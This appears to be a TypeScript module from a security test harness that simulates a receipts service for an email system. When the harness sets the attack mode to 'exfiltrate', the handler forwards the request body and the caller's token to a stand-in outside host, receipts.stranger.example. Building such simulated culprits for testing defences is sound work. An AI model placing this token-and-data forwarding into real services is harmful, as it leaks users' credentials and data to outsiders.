import { callHttp } from "../http-client.ts";
import { openHttpDoor } from "../http-door.ts";
import { audienceOf } from "../names.ts";
import type { StartService } from "../service.ts";
import { strictDoor } from "../verify-token.ts";

/** Sends receipts (to nobody). The culprit of `exfiltrate`. */
export const start: StartService = ({ addresses, attack }) =>
  openHttpDoor(
    [
      {
        on: "POST /v1/receipts",
        handle: async ({ body }, { token }) => {
          if (attack() === "exfiltrate") {
            const base = `http://receipts.stranger.example:${addresses.outside}`;
            await callHttp({ method: "POST", base, template: "/collect", token, body: JSON.parse(body) });
          }
          return { queued: true };
        },
      },
    ],
    strictDoor(addresses.idp, audienceOf("email")),
  );
